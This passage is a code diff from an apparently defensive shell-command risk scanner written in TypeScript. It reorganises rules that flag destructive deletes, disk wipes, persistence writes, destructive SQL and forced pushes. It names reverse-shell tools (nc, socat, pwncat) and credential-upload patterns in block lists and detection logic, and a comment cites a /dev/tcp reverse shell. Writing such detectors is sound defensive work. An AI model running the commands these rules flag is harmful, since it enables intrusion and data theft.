@@ -1,25 +1,32 @@
 // Rules for one simple command, after its words are evaluated and its wrappers removed: recursive
 // deletes of `/` and system folders, disk formatting and raw device writes, permission changes on
-// `/`, downloads run by an interpreter, reverse and bind shells, uploads of credentials and system
-// files, writes that plant persistence (sudoers, authorized_keys, shell start-up files, cron),
-// and the ordinary high-risk commands (rm, kill, package installs, forced pushes). Each rule adds
-// a finding with its reason; the command's summary feeds the pipeline rules of shell.ts.
+// `/`, shells and interpreters (`bash -c`, `python -c`, a download run by an interpreter), writes
+// that plant persistence (sudoers, authorized_keys, shell start-up files, cron), database clients
+// given destructive SQL, and the ordinary high-risk commands (rm, kill, package installs, forced
+// pushes). Network rules live in shell-network-rules.ts. Each rule adds a finding with its
+// reason; the command's summary feeds the pipeline rules of shell.ts.
 
 import { quote } from './findings.ts';
 import {
   criticalWriteTarget,
-  isBlockDevice,
   isSystemPath,
   looksLikePath,
   normalizePath,
-  pathsInText,
   permissionCriticalTarget,
   protectedDeleteTarget,
   rootLikeTarget,
   sensitiveFile,
 } from './paths.ts';
-import { readCode } from './script-code.ts';
 import { analyzeSql } from './sql.ts';
+import { codeRule, staticPath, writeTarget, type RuleContext } from './shell-rule-context.ts';
+import {
+  anyCommandExfiltration,
+  mailRule,
+  networkCommandRules,
+  remoteCopyRule,
+  transferClientRule,
+  uploadRule,
+} from './shell-network-rules.ts';
 import { hasFlag, optionValues, parseOptions, type ParsedOptions } from './shell-options.ts';
 import { plainSummary, type CommandSite, type CommandSummary, type ShellScan } from './shell-scan.ts';
 import type { Word } from './shell-words.ts';
@@ -28,7 +35,23 @@ import { commandName, unwrapCommand } from './shell-wrappers.ts';
 const set = (...items: string[]): ReadonlySet<string> => new Set(items);
 
 /** Shells: `-c` runs a command string, no argument runs standard input. */
-export const SHELLS = set('sh', 'bash', 'zsh', 'dash', 'ksh', 'mksh', 'ash', 'csh', 'tcsh', 'fish', 'rbash', 'yash', 'posh', 'ksh93', 'elvish');
+export const SHELLS = set(
+  'sh',
+  'bash',
+  'zsh',
+  'dash',
+  'ksh',
+  'mksh',
+  'ash',
+  'csh',
+  'tcsh',
+  'fish',
+  'rbash',
+  'yash',
+  'posh',
+  'ksh93',
+  'elvish',
+);
 
 /** Interpreters of other languages, with the options that take inline code. */
 const CODE_OPTIONS: Record<string, ReadonlySet<string>> = {
@@ -74,16 +97,6 @@ export function interpreterFamily(name: string): string | undefined {
   return undefined;
 }
 
-/** Fetch content from the network. */
-const DOWNLOADERS = set('curl', 'wget', 'fetch', 'aria2c', 'axel', 'lwp-download', 'lwp-request', 'get', 'http', 'https', 'xh', 'httpie', 'curlie', 'wget2', 'invoke-webrequest', 'iwr');
-/** Raw network clients and listeners that can carry a shell. */
-const NET_CLIENTS = set('nc', 'ncat', 'netcat', 'nc.traditional', 'nc.openbsd', 'telnet', 'socat', 'openssl', 'cryptcat', 'sbd', 'pwncat', 'socket', 'gnutls-cli', 'rlogin', 'rsh');
-/** Commands that can send a local file elsewhere; an operand naming a sensitive file is an upload. */
-const UPLOADERS = set(
-  'curl', 'wget', 'nc', 'ncat', 'netcat', 'telnet', 'scp', 'rsync', 'sftp', 'ftp', 'tftp', 'ab', 'http', 'https', 'xh',
-  'lp', 'hping3', 'restic', 'rclone', 's3cmd', 'gsutil', 'aws', 'az', 'azcopy', 'tailscale', 'whois', 'finger', 'dig', 'nslookup',
-  'host', 'ping', 'lwp-request', 'post', 'irc', 'ngrok', 'cloudflared', 'transfer', 'croc', 'magic-wormhole', 'wormhole', 'gh', 'put', 'mput',
-);
 /** Package managers and the sub-commands that install or remove software. */
 const PACKAGE_MANAGERS: Record<string, ReadonlySet<string>> = {
   apt: set('install', 'remove', 'purge', 'upgrade', 'dist-upgrade', 'full-upgrade', 'autoremove', 'reinstall'),
@@ -110,38 +123,21 @@ const PACKAGE_MANAGERS: Record<string, ReadonlySet<string>> = {
   rpm: set('-i', '-U', '-e', '-ivh', '-Uvh', '--install', '--upgrade', '--erase'),
   flatpak: set('install', 'uninstall'),
 };
-const CURL_DATA_OPTIONS = ['-d', '--data', '--data-binary', '--data-ascii', '--data-urlencode', '--data-raw', '--json', '-F', '--form', '--form-string', '-T', '--upload-file'];
-const CURL_VALUE_OPTIONS = set(...CURL_DATA_OPTIONS, '-o', '--output', '-H', '--header', '-X', '--request', '-u', '--user', '-A', '--user-agent', '-e', '--referer', '-b', '--cookie', '-c', '--cookie-jar', '-w', '--write-out', '-x', '--proxy', '-m', '--max-time', '--connect-timeout', '-K', '--config', '-E', '--cert', '--key', '--cacert', '-r', '--range', '-C', '--continue-at', '--retry', '-U', '--proxy-user', '--url', '--output-dir', '--resolve');
-const WGET_VALUE_OPTIONS = set('-O', '--output-document', '-o', '--output-file', '-a', '--append-output', '-P', '--directory-prefix', '--post-data', '--post-file', '--body-data', '--body-file', '--method', '--header', '-U', '--user-agent', '-i', '--input-file', '-t', '--tries', '-T', '--timeout', '--user', '--password', '-e', '--execute', '-Q', '--quota', '-l', '--level');
 /** Options that name an output file on many commands (`-o out`, `--output=out`). */
 const OUTPUT_OPTION = /^(?:-o|--output(?:-document|-file)?|--out(?:file|File)?|--log-?file|-fprintf|--dump-bin)$/;
 /** Options whose value is a command the program runs (`--rsh-command`, `--password-command`, `-e` of rsync). */
-const COMMAND_OPTION = /^--?[\w-]*(?:-command|-cmd|-program|-exec|_command)(?:=(.*))?$|^--(?:on-download-complete|on-download-error|to-command|use-compress-program|checkpoint-action=exec)(?:=(.*))?$/i;
-/** Options whose value names a file that is sent (`--post-file=`, `--upload-file=`, `--attach=`). */
-const FILE_SENDING_OPTION = /^--?[\w-]*(?:file|data|upload|post|body|form|attach|input)[\w-]*=(.+)$/i;
-
-/** The file an upload option names (`@file`, `<file`, `name=@file`, `name@file`, `file:path`). */
-function uploadedFile(text: string): string | undefined {
-  let match = /^(?:[\w.-]*=)?[@<](.+)$/.exec(text);
-  if (match) return match[1].replace(/;.*$/, '');
-  match = /^[\w.-]+@(\/.+|~.*)$/.exec(text);
-  if (match) return match[1];
-  match = /^(?:file|open|gopen|create|creat):([^,]+)/i.exec(text);
-  if (match) return match[1];
-  return undefined;
-}
+const COMMAND_OPTION =
+  /^--?[\w-]*(?:-command|-cmd|-program|-exec|_command)(?:=(.*))?$|^--(?:on-download-complete|on-download-error|to-command|use-compress-program|checkpoint-action=exec)(?:=(.*))?$/i;
 
 /** Expands one level of shell braces (`/{etc,usr}` gives `/etc`, `/usr`), at most 16 results. */
 function expandBraces(text: string): string[] {
-  const match = /^(.*?)\{([^{}]*,[^{}]*)\}(.*)$/.exec(text);
+  if (text.length > 512 || !text.includes('{')) return [text];
+  const match = /^([^{]*)\{([^{},]*(?:,[^{},]*)+)\}(.*)$/.exec(text);
   if (!match) return [text];
-  return match[2].split(',').slice(0, 16).map((alternative) => match[1] + alternative + match[3]);
-}
-
-/** The evaluated text of a word as a path, or undefined when it is computed at run time. */
-function staticPath(word: Word): string | undefined {
-  if (word.dynamic && /\$\(|\$\(\(|<\(|>\(/.test(word.text)) return undefined;
-  return word.text;
+  return match[2]
+    .split(',')
+    .slice(0, 16)
+    .map((alternative) => match[1] + alternative + match[3]);
 }
 
 /** Analyses one simple command. */
@@ -187,18 +183,8 @@ export function analyzeCommand(argv: Word[], site: CommandSite, scan: ShellScan)
   outputOptionWrites(context);
   commandOptions(context);
   inlineCode(context);
-  if (!UPLOADERS.has(name) && !NET_CLIENTS.has(name)) networkExfiltration(context);
+  anyCommandExfiltration(context);
   return summary;
-}
-
-interface RuleContext {
-  name: string;
-  head: Word;
-  args: Word[];
-  site: CommandSite;
-  scan: ShellScan;
-  summary: CommandSummary;
-  argsFromInput: boolean;
 }
 
 function runRules(c: RuleContext): void {
@@ -207,36 +193,82 @@ function runRules(c: RuleContext): void {
   if (SHELLS.has(name)) return shellRule(c);
   const family = interpreterFamily(name);
   if (family !== undefined) return interpreterRule(c, family);
-  if (name.startsWith('mkfs') || name === 'mke2fs' || name === 'mkswap' || name === 'wipefs' || name === 'blkdiscard' || name === 'mkdosfs') {
+  if (
+    name.startsWith('mkfs') ||
+    name === 'mke2fs' ||
+    name === 'mkswap' ||
+    name === 'wipefs' ||
+    name === 'blkdiscard' ||
+    name === 'mkdosfs'
+  ) {
     c.scan.add('critical', `shell: formats or wipes a disk (${name})`);
     return;
   }
   switch (name) {
-    case 'rm': case 'unlink': case 'rmdir': case 'srm': case 'shred': case 'wipe': case 'trash': case 'trash-put': case 'gio':
+    case 'rm':
+    case 'unlink':
+    case 'rmdir':
+    case 'srm':
+    case 'shred':
+    case 'wipe':
+    case 'trash':
+    case 'trash-put':
+    case 'gio':
       return removeRule(c);
     case 'find':
       return findRule(c);
     case 'dd':
       return ddRule(c);
-    case 'chmod': case 'chown': case 'chgrp': case 'setfacl':
+    case 'chmod':
+    case 'chown':
+    case 'chgrp':
+    case 'setfacl':
       return permissionRule(c);
     case 'tee':
       return teeRule(c);
-    case 'cp': case 'mv': case 'install': case 'ln': case 'rsync':
+    case 'cp':
+    case 'mv':
+    case 'install':
+    case 'ln':
+    case 'rsync':
       return copyRule(c);
-    case 'sed': case 'perl-i':
+    case 'sed':
+    case 'perl-i':
       return sedRule(c);
     case 'truncate':
       return truncateRule(c);
-    case 'echo': case 'printf':
+    case 'echo':
+    case 'printf':
       return echoRule(c);
-    case 'cat': case 'head': case 'tail': case 'less': case 'more': case 'base64': case 'xxd': case 'od': case 'strings': case 'tac': case 'nl': case 'zcat': case 'gzip': case 'tar': case 'zip': case '7z': case 'bzip2': case 'xz':
+    case 'cat':
+    case 'head':
+    case 'tail':
+    case 'less':
+    case 'more':
+    case 'base64':
+    case 'xxd':
+    case 'od':
+    case 'strings':
+    case 'tac':
+    case 'nl':
+    case 'zcat':
+    case 'gzip':
+    case 'tar':
+    case 'zip':
+    case '7z':
+    case 'bzip2':
+    case 'xz':
       return readRule(c);
-    case 'kill': case 'pkill': case 'killall': case 'killall5': case 'skill':
+    case 'kill':
+    case 'pkill':
+    case 'killall':
+    case 'killall5':
+    case 'skill':
       return killRule(c);
     case 'eval':
       return evalRule(c);
-    case 'source': case '.':
+    case 'source':
+    case '.':
       return sourceRule(c);
     case 'alias':
       return aliasRule(c);
@@ -245,63 +277,109 @@ function runRules(c: RuleContext): void {
     case 'crontab':
       c.scan.add('high', 'shell: edits a crontab');
       return;
-    case 'sshfs': case 'mount':
+    case 'sshfs':
+    case 'mount':
       return mountRule(c);
-    case 'parted': case 'fdisk': case 'sfdisk': case 'sgdisk': case 'gdisk': case 'cfdisk':
+    case 'parted':
+    case 'fdisk':
+    case 'sfdisk':
+    case 'sgdisk':
+    case 'gdisk':
+    case 'cfdisk':
       return partitionRule(c);
-    case 'shutdown': case 'reboot': case 'halt': case 'poweroff': case 'init': case 'telinit':
+    case 'shutdown':
+    case 'reboot':
+    case 'halt':
+    case 'poweroff':
+    case 'init':
+    case 'telinit':
       c.scan.add('high', `shell: stops or restarts the machine (${name})`);
       return;
     case 'history':
       if (c.args.some((word) => word.text === '-c' || word.text === '-w')) c.scan.add('high', 'shell: rewrites shell history');
-      writeTargets(c, c.args.filter((word, index) => index > 0 && /^-[aw]$/.test(c.args[index - 1].text)), 'history');
+      writeTargets(
+        c,
+        c.args.filter((_word, index) => index > 0 && /^-[aw]$/.test(c.args[index - 1].text)),
+        'history',
+      );
       return;
-    case 'iptables': case 'ip6tables': case 'ufw': case 'nft':
+    case 'iptables':
+    case 'ip6tables':
+    case 'ufw':
+    case 'nft':
       c.scan.add('high', `shell: changes the firewall (${name})`);
       return;
-    case 'useradd': case 'userdel': case 'usermod': case 'passwd': case 'chpasswd': case 'adduser': case 'deluser': case 'visudo': case 'groupadd': case 'gpasswd':
+    case 'useradd':
+    case 'userdel':
+    case 'usermod':
+    case 'passwd':
+    case 'chpasswd':
+    case 'adduser':
+    case 'deluser':
+    case 'visudo':
+    case 'groupadd':
+    case 'gpasswd':
       c.scan.add('high', `shell: changes user accounts (${name})`);
       return;
-    case 'systemctl': case 'service':
-      if (c.args.some((word) => /^(?:stop|disable|mask|kill|enable)$/.test(word.text))) c.scan.add('high', `shell: changes system services (${name})`);
+    case 'systemctl':
+    case 'service':
+      if (c.args.some((word) => /^(?:stop|disable|mask|kill|enable)$/.test(word.text)))
+        c.scan.add('high', `shell: changes system services (${name})`);
       return;
-    case 'smbclient': case 'lftp': {
-      const parsed = parseOptions(c.args, set('-c', '--command', '-U', '-W', '-p', '-I', '-A', '-n', '-m', '-e', '-u'));
-      for (const command of optionValues(parsed, '-c', '--command', '-e')) c.scan.nested(command.text, `${name} -c`);
-      c.scan.add('high', `shell: file transfer to another host (${name})`);
-      return;
-    }
-    case 'mail': case 'mailx': case 'mutt': case 'sendmail': case 's-nail': case 'neomutt': {
-      const parsed = parseOptions(c.args, set('-a', '-A', '-s', '-c', '-b', '-r', '-F', '-f', '-S', '-e', '-i'));
-      const attachment = [...optionValues(parsed, '-a'), ...(name === 'mutt' || name === 'neomutt' ? [] : optionValues(parsed, '-A'))].find((word) => sensitiveFile(word.text) !== undefined);
-      if (attachment !== undefined) c.scan.add('critical', `shell: mails ${sensitiveFile(attachment.text)} ${quote(attachment.text)} (${name})`);
-      else uploadStdin(c);
-      c.scan.add('high', `shell: sends e-mail (${name})`);
-      return;
-    }
-    case 'put': case 'mput':
+    case 'smbclient':
+    case 'lftp':
+      return transferClientRule(c);
+    case 'mail':
+    case 'mailx':
+    case 'mutt':
+    case 'sendmail':
+    case 's-nail':
+    case 'neomutt':
+      return mailRule(c);
+    case 'put':
+    case 'mput':
       // A line of an interactive ftp/sftp/tftp/smbclient session.
       return uploadRule(c);
-    case 'cd': case 'pushd': {
+    case 'cd':
+    case 'pushd': {
       const target = c.args.find((word) => !word.text.startsWith('-'));
       const text = target === undefined ? '~' : staticPath(target);
       if (text === undefined || target?.dynamic) c.scan.cwd = undefined;
-      else c.scan.cwd = normalizePath(text.startsWith('/') || text.startsWith('~') || c.scan.cwd === undefined ? text : `${c.scan.cwd}/${text}`);
+      else
+        c.scan.cwd = normalizePath(
+          text.startsWith('/') || text.startsWith('~') || c.scan.cwd === undefined ? text : `${c.scan.cwd}/${text}`,
+        );
       return;
     }
-    case 'psql': case 'mysql': case 'mariadb': case 'sqlite3': case 'sqlcmd': case 'clickhouse-client': case 'cockroach': case 'duckdb': case 'snowsql': case 'bq':
+    case 'psql':
+    case 'mysql':
+    case 'mariadb':
+    case 'sqlite3':
+    case 'sqlcmd':
+    case 'clickhouse-client':
+    case 'cockroach':
+    case 'duckdb':
+    case 'snowsql':
+    case 'bq':
       return databaseClientRule(c);
-    case 'redis-cli': case 'valkey-cli': case 'keydb-cli':
-      if (c.args.some((word) => /^(?:flushall|flushdb)$/i.test(word.text))) c.scan.add('critical', `shell: wipes a Redis database (${name} ${c.args.find((word) => /^flush/i.test(word.text))?.text})`);
+    case 'redis-cli':
+    case 'valkey-cli':
+    case 'keydb-cli':
+      if (c.args.some((word) => /^(?:flushall|flushdb)$/i.test(word.text)))
+        c.scan.add('critical', `shell: wipes a Redis database (${name} ${c.args.find((word) => /^flush/i.test(word.text))?.text})`);
       else c.scan.add('high', `shell: runs a database command (${name})`);
       return;
-    case 'mongo': case 'mongosh': {
+    case 'mongo':
+    case 'mongosh': {
       const script = c.args.map((word) => word.text).join(' ');
-      if (/dropDatabase\s*\(|\.drop\s*\(\s*\)|deleteMany\s*\(\s*\{\s*\}\s*\)/.test(script)) c.scan.add('critical', `shell: drops MongoDB data (${name})`);
+      if (/dropDatabase\s*\(|\.drop\s*\(\s*\)|deleteMany\s*\(\s*\{\s*\}\s*\)/.test(script))
+        c.scan.add('critical', `shell: drops MongoDB data (${name})`);
       else c.scan.add('high', `shell: runs a database command (${name})`);
       return;
     }
-    case 'terraform': case 'tofu': case 'pulumi':
+    case 'terraform':
+    case 'tofu':
+    case 'pulumi':
       if (c.args.some((word) => word.text === 'destroy')) c.scan.add('high', `shell: destroys infrastructure (${name} destroy)`);
       return;
     case 'ztcp':
@@ -312,9 +390,7 @@ function runRules(c: RuleContext): void {
       break;
   }
   if (name in PACKAGE_MANAGERS) packageRule(c);
-  if (DOWNLOADERS.has(name)) downloadRule(c);
-  if (NET_CLIENTS.has(name)) netClientRule(c);
-  if (UPLOADERS.has(name)) uploadRule(c);
+  networkCommandRules(c);
 }
 
 /** `sh`, `bash -c "…"`, `bash -i >& /dev/tcp/…`, `sh <(curl …)`, `bash install.sh`. */
@@ -383,22 +459,6 @@ function interpreterRule(c: RuleContext, family: string): void {
   }
 }
 
-/** Signals of code run by an interpreter. */
-export function codeRule(c: { name: string; scan: ShellScan; summary?: CommandSummary }, code: string, runsNow = true): void {
-  const signals = readCode(code);
-  if (signals.socket && signals.spawnsShell) {
-    c.scan.add('critical', `shell: ${c.name} code connects a socket to a shell (reverse or bind shell)`);
-  }
-  if (!runsNow) return;
-  if ((signals.socket || signals.network) && signals.sensitivePaths.length > 0) {
-    const first = signals.sensitivePaths[0];
-    c.scan.add('critical', `shell: ${c.name} code sends ${first.why} ${quote(first.path)} over the network`);
-  }
-  if (signals.network && c.summary) c.summary.downloader = true;
-  if (signals.forkBomb) c.scan.add('critical', `shell: ${c.name} code is a fork bomb`);
-  for (const command of signals.shellCommands) c.scan.nested(command, `${c.name} code`);
-}
-
 /** rm, unlink, shred …: recursive deletes of `/`, home, system folders; deletes of system files. */
 function removeRule(c: RuleContext): void {
   const parsed = parseOptions(c.args, set('-n', '--iterations', '-s', '--size', '--interactive'));
@@ -443,10 +503,17 @@ function findRule(c: RuleContext): void {
   const texts = c.args.map((word) => word.text);
   const firstPredicate = texts.findIndex((text) => text.startsWith('-') || text === '(' || text === '!');
   const roots = (firstPredicate < 0 ? texts : texts.slice(0, firstPredicate)).filter((text) => !text.startsWith('-'));
-  const filtered = texts.some((text) => /^-(?:i?name|i?path|i?regex|wholename|mtime|mmin|atime|amin|ctime|cmin|newer|size|user|group|empty|perm|type)$/.test(text));
+  const filtered = texts.some((text) =>
+    /^-(?:i?name|i?path|i?regex|wholename|mtime|mmin|atime|amin|ctime|cmin|newer|size|user|group|empty|perm|type)$/.test(text),
+  );
   const rootLike = roots.map((root) => rootLikeTarget(root)).find((root) => root !== undefined);
   // A filtered find under a system folder (not logs or caches) still deletes system files.
-  const systemRoot = roots.find((root) => protectedDeleteTarget(`${normalizePath(root)}/x`) !== undefined && !normalizePath(root).startsWith('/var/log') && rootLikeTarget(root) !== '~');
+  const systemRoot = roots.find(
+    (root) =>
+      protectedDeleteTarget(`${normalizePath(root)}/x`) !== undefined &&
+      !normalizePath(root).startsWith('/var/log') &&
+      rootLikeTarget(root) !== '~',
+  );
   if (texts.includes('-delete')) {
     if (rootLike !== undefined && !filtered) c.scan.add('critical', `shell: recursive delete of ${quote(rootLike)} (find -delete)`);
     else if (systemRoot !== undefined) c.scan.add('critical', `shell: deletes system files under ${quote(systemRoot)} (find -delete)`);
@@ -479,17 +546,20 @@ function permissionRule(c: RuleContext): void {
   const parsed = parseOptions(c.args, set('--reference', '--from', '-m', '-x', '-M', '-X'));
   const recursive = hasFlag(parsed, 'R', '--recursive') || (c.name === 'setfacl' && hasFlag(parsed, 'R'));
   const operands = parsed.operands;
-  const mode = c.name === 'chmod' ? operands[0]?.text ?? '' : '';
+  const mode = c.name === 'chmod' ? (operands[0]?.text ?? '') : '';
   const targets = c.name === 'chmod' || c.name === 'chown' || c.name === 'chgrp' ? operands.slice(1) : operands;
   const setuid = /^[0-7]?[2467][0-7]{3}$/.test(mode) || /[ugoa]*[+=][rwxXt]*s/.test(mode);
-  const worldWritable = /^[0-7]?[0-7]{2}[2367]$/.test(mode) || /(?:^|,)[oa]*\+[rwxX]*w|^\+?[rwxX]*w/.test(mode) && /[oa]|^\+/.test(mode);
+  const worldWritable = /^[0-7]?[0-7]{2}[2367]$/.test(mode) || (/(?:^|,)[oa]*\+[rwxX]*w|^\+?[rwxX]*w/.test(mode) && /[oa]|^\+/.test(mode));
   for (const target of targets) {
     const root = permissionCriticalTarget(target.text);
     if (recursive && root !== undefined) {
       c.scan.add('critical', `shell: recursive permission change on ${quote(root)} (${c.name} -R)`);
       continue;
     }
-    if (setuid && (isSystemPath(target.text) || SHELLS.has(commandName(target.text)) || interpreterFamily(commandName(target.text)) !== undefined)) {
+    if (
+      setuid &&
+      (isSystemPath(target.text) || SHELLS.has(commandName(target.text)) || interpreterFamily(commandName(target.text)) !== undefined)
+    ) {
       c.scan.add('critical', `shell: sets the setuid bit on ${quote(target.text)}`);
       continue;
     }
@@ -515,7 +585,29 @@ function teeRule(c: RuleContext): void {
 
 /** cp, mv, install, ln, rsync: writes to the destination; mv also removes its sources. */
 function copyRule(c: RuleContext): void {
-  const parsed = parseOptions(c.args, set('-t', '--target-directory', '-S', '--suffix', '-m', '--mode', '-o', '--owner', '-g', '--group', '-e', '--rsh', '--exclude', '--include', '--backup-dir', '--chmod', '-f', '--filter'));
+  const parsed = parseOptions(
+    c.args,
+    set(
+      '-t',
+      '--target-directory',
+      '-S',
+      '--suffix',
+      '-m',
+      '--mode',
+      '-o',
+      '--owner',
+      '-g',
+      '--group',
+      '-e',
+      '--rsh',
+      '--exclude',
+      '--include',
+      '--backup-dir',
+      '--chmod',
+      '-f',
+      '--filter',
+    ),
+  );
   const target = optionValues(parsed, '-t', '--target-directory')[0];
   const operands = parsed.operands;
   const destination = target ?? (operands.length >= 2 ? operands[operands.length - 1] : undefined);
@@ -530,7 +622,8 @@ function copyRule(c: RuleContext): void {
     }
     if (c.name === 'mv') {
       const protectedWhy = protectedDeleteTarget(source.text);
-      if (protectedWhy !== undefined && looksLikePath(source.text)) c.scan.add('critical', `shell: moves away ${protectedWhy} ${quote(source.text)} (mv)`);
+      if (protectedWhy !== undefined && looksLikePath(source.text))
+        c.scan.add('critical', `shell: moves away ${protectedWhy} ${quote(source.text)} (mv)`);
     }
   }
   if (c.name === 'rsync' && hasFlag(parsed, '--delete', '--delete-before', '--delete-after', '--delete-during')) {
@@ -649,7 +742,12 @@ function gitRule(c: RuleContext): void {
   const parsed = parseOptions(c.args, set('-C', '-c', '--git-dir', '--work-tree'));
   const sub = parsed.operands[0]?.text;
   const rest = parsed.operands.slice(1);
-  if (sub === 'push' && (hasFlag(parsed, 'f', '--force', '--force-with-lease', '--mirror', '--delete', 'd') || rest.some((word) => word.text.startsWith('+') || word.text.startsWith(':')) || [...parsed.long].some((flag) => flag.startsWith('--force')))) {
+  if (
+    sub === 'push' &&
+    (hasFlag(parsed, 'f', '--force', '--force-with-lease', '--mirror', '--delete', 'd') ||
+      rest.some((word) => word.text.startsWith('+') || word.text.startsWith(':')) ||
+      [...parsed.long].some((flag) => flag.startsWith('--force')))
+  ) {
     c.scan.add('high', 'shell: git push --force rewrites remote history');
   } else if (sub === 'reset' && hasFlag(parsed, '--hard')) {
     c.scan.add('high', 'shell: git reset --hard discards work');
@@ -680,14 +778,40 @@ function partitionRule(c: RuleContext): void {
 
 /** SQL given to a database client on its command line (`psql -c "DROP DATABASE x"`) is read as SQL. */
 function databaseClientRule(c: RuleContext): void {
-  const valueOptions = set('-c', '--command', '-e', '--execute', '-q', '--query', '-Q', '-d', '--dbname', '-h', '--host', '-U', '--username', '-u', '--user', '-p', '--port', '-f', '--file', '-S', '-D', '--database', '-P', '--password');
+  const valueOptions = set(
+    '-c',
+    '--command',
+    '-e',
+    '--execute',
+    '-q',
+    '--query',
+    '-Q',
+    '-d',
+    '--dbname',
+    '-h',
+    '--host',
+    '-U',
+    '--username',
+    '-u',
+    '--user',
+    '-p',
+    '--port',
+    '-f',
+    '--file',
+    '-S',
+    '-D',
+    '--database',
+    '-P',
+    '--password',
+  );
   const parsed = parseOptions(c.args, valueOptions);
   const statements = optionValues(parsed, '-c', '--command', '-e', '--execute', '-q', '--query', '-Q');
   if (c.name === 'sqlite3' || c.name === 'duckdb') statements.push(...parsed.operands.slice(1));
   if (c.site.stdinText !== undefined) statements.push({ ...c.head, text: c.site.stdinText });
   for (const statement of statements.slice(0, 8)) {
     const assessment = analyzeSql(statement.text);
-    for (const reason of assessment.reasons) c.scan.add(assessment.class === 'low' || assessment.class === 'medium' ? 'high' : assessment.class, `${reason} (through ${c.name})`);
+    for (const reason of assessment.reasons)
+      c.scan.add(assessment.class === 'low' || assessment.class === 'medium' ? 'high' : assessment.class, `${reason} (through ${c.name})`);
   }
   c.scan.add('high', `shell: runs a database client (${c.name})`);
 }
@@ -697,178 +821,6 @@ function packageRule(c: RuleContext): void {
   const actions = PACKAGE_MANAGERS[c.name];
   const action = c.args.find((word) => actions.has(word.text));
   if (action !== undefined) c.scan.add('high', `shell: installs or removes packages (${c.name} ${action.text})`);
-}
-
-/** curl, wget …: a plain download is high; the file it writes is remembered. */
-function downloadRule(c: RuleContext): void {
-  c.summary.downloader = true;
-  const valueOptions = c.name === 'wget' || c.name === 'wget2' ? WGET_VALUE_OPTIONS : CURL_VALUE_OPTIONS;
-  const parsed = parseOptions(c.args, valueOptions);
-  const outputs = optionValues(parsed, '-o', '--output', '-O', '--output-document');
-  const urls = parsed.operands.filter((word) => /^(?:https?|ftp|s?ftp):\/\//i.test(word.text) || /^[\w.-]+\.[a-z]{2,}\//i.test(word.text));
-  if (c.name === 'curl' && hasFlag(parsed, 'O', '--remote-name')) {
-    for (const url of urls) outputs.push({ ...url, text: url.text.replace(/[?#].*$/, '').replace(/.*\//, '') });
-  }
-  if ((c.name === 'wget' || c.name === 'wget2') && outputs.length === 0) {
-    for (const url of urls) outputs.push({ ...url, text: url.text.replace(/[?#].*$/, '').replace(/.*\//, '') || 'index.html' });
-  }
-  if (c.name === 'lwp-download' && parsed.operands.length > 1) outputs.push(parsed.operands[1]);
-  const toStdout = outputs.some((word) => word.text === '-');
-  for (const output of outputs) {
-    if (output.text === '-' || output.text === '') continue;
-    c.scan.downloaded.add(normalizePath(output.text));
-    c.scan.downloaded.add(commandName(output.text));
-    writeTarget(c, output.text, c.name, '>');
-  }
-  if (outputs.length > 0 && !toStdout) c.summary.downloader = false;
-  for (const redirect of c.site.redirs) {
-    if (redirect.op === 54 || redirect.op === 55 || redirect.op === 60 || redirect.op === 64) {
-      c.scan.downloaded.add(normalizePath(redirect.target.text));
-      c.scan.downloaded.add(commandName(redirect.target.text));
-    }
-  }
-  const uploading = c.name === 'curl' ? CURL_DATA_OPTIONS.some((option) => parsed.values.has(option)) : parsed.values.has('--post-file') || parsed.values.has('--post-data') || parsed.values.has('--body-file');
-  c.scan.add('high', uploading ? `shell: sends data over the network (${c.name})` : `shell: downloads from the network (${c.name})`);
-}
-
-/** nc -e, ncat --exec, socat … exec:, socket -p: a shell handed to the network. */
-function netClientRule(c: RuleContext): void {
-  c.summary.netClient = c.name;
-  const texts = c.args.map((word) => word.text);
-  if (c.name === 'socat') {
-    const addresses = texts.filter((text) => !text.startsWith('-') || text === '-');
-    const exec = addresses.some((text) => /^(?:exec|system):/i.test(text));
-    const network = addresses.some((text) => /^(?:tcp|tcp4|tcp6|udp|udp4|udp6|ssl|openssl|sctp|socks\d?|proxy|tcp-l(?:isten)?|tcp4-l(?:isten)?|udp-l(?:isten)?|openssl-listen|ssl-l)\b/i.test(text));
-    if (exec && network) {
-      c.scan.add('critical', `shell: socat connects a shell to the network (${quote(texts.join(' '))})`);
-      return;
-    }
-    if (network) {
-      const oneWay = texts.includes('-u') || texts.includes('-U');
-      addresses.forEach((address, index) => {
-        const file = /^(?:file|open|gopen|create|creat):([^,]+)/i.exec(address)?.[1];
-        if (file === undefined) return;
-        const sending = !oneWay || (texts.includes('-u') ? index === 0 : index === addresses.length - 1);
-        const why = sensitiveFile(file);
-        if (sending && why !== undefined) c.scan.add('critical', `shell: socat sends ${why} ${quote(file)} over the network`);
-        if (!sending || !oneWay) writeTarget(c, file, 'socat', '>');
-      });
-    }
-  } else if (c.name === 'openssl') {
-    if (!texts.some((text) => /^s_(?:client|server)$/.test(text))) {
-      c.summary.netClient = undefined;
-      return;
-    }
-    uploadRule(c);
-  } else if (c.name === 'socket') {
-    if (texts.some((text) => /^-\w*p/.test(text))) c.scan.add('critical', `shell: socket -p hands a program to the network (${quote(texts.join(' '))})`);
-  } else {
-    const parsed = parseOptions(c.args, set('-e', '-c', '--exec', '--sh-exec', '--lua-exec', '-p', '-s', '-w', '-i', '-q', '-x', '-X', '-b', '-T', '-I', '-O', '-P', '-G', '-g', '-m', '-W', '--source', '--proxy', '--proxy-type'));
-    const exec = optionValues(parsed, '-e', '-c', '--exec', '--sh-exec', '--lua-exec');
-    if (exec.length > 0 && c.name !== 'telnet') {
-      const listen = hasFlag(parsed, 'l', '--listen');
-      c.scan.add('critical', `shell: ${c.name} ${listen ? 'listens and runs' : 'connects and runs'} ${quote(exec[0].text)} (${listen ? 'bind' : 'reverse'} shell)`);
-      return;
-    }
-  }
-  c.scan.add('high', `shell: opens a raw network connection (${c.name})`);
-}
-
-/** Standard input read from a sensitive file, for commands that send their input. */
-function uploadStdin(c: RuleContext): boolean {
-  for (const redirect of c.site.redirs) {
-    if (redirect.op !== 56 && redirect.op !== 57) continue;
-    const why = sensitiveFile(redirect.target.text);
-    if (why !== undefined) {
-      c.scan.add('critical', `shell: sends ${why} ${quote(redirect.target.text)} over the network (${c.name} < file)`);
-      return true;
-    }
-  }
-  return false;
-}
-
-/** Any command that can send files: a credential or system file among its arguments is an upload. */
-function uploadRule(c: RuleContext): void {
-  if (uploadStdin(c)) return;
-  for (const redirect of c.site.redirs) {
-    if (redirect.op !== 56 && redirect.op !== 57) continue;
-    const why = sensitiveFile(redirect.target.text);
-    if (why !== undefined) {
-      c.scan.add('critical', `shell: sends ${why} ${quote(redirect.target.text)} over the network (${c.name} < file)`);
-      return;
-    }
-  }
-  for (const word of c.args) {
